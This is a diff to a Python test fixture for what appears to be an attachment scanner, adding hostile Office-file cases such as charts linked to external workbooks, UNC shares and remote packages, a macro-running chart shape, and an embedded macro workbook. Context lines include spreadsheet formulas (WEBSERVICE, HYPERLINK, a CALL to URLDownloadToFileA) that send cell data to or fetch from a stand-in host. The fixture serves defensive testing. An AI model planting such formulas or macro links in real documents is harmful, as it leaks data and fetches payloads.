@@ -16,6 +16,7 @@ from consult.attachments.kinds import EICAR
 from consult.testing.attached_files import (
     box,
     docx_parts,
+    docx_with_chart,
     good_files,
     huge_png,
     m4a,
@@ -27,6 +28,7 @@ from consult.testing.attached_files import (
     relations,
     wav,
     xlsx_parts,
+    xlsx_with_chart,
     zipped,
 )
 
@@ -133,6 +135,13 @@ def hostile_archives() -> dict[str, bytes]:
         "web service": formula('WEBSERVICE("https://example.org/"&amp;A1)'),
         "link in a formula": formula('HYPERLINK("https://example.org/"&amp;A1,"click")'),
         "call": formula('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://example.org")'),
+        "chart of another workbook": xlsx_with_chart("[1]Sheet1!$B$2:$B$3"),
+        "chart of a file": xlsx_with_chart(r"'\\server\share\[book.xlsx]Sheet1'!$B$2"),
+        "chart fed from elsewhere": xlsx_with_chart(reach=relations("package", "https://example.org/a.xlsx")),
+        "chart that runs a macro": xlsx_with_chart(shape='macro="[0]!Go"'),
+        "workbook beside a chart": docx_with_chart("word/_rels/document.xml.rels"),
+        "EICAR behind a chart": docx_with_chart(behind=EICAR),
+        "macro workbook beside a chart": zipped(docx, **{"word/embeddings/Book1.xlsm": zipped(xlsx)}),
         "external link part": zipped(xlsx, **{"xl/externalLinks/externalLink1.xml": "<a/>"}),
         "connection": zipped(xlsx, **{"xl/connections.xml": "<a/>"}),
         "entities": zipped({**docx, "word/document.xml": f"{_XML}{entities}<w>&b;</w>"}),
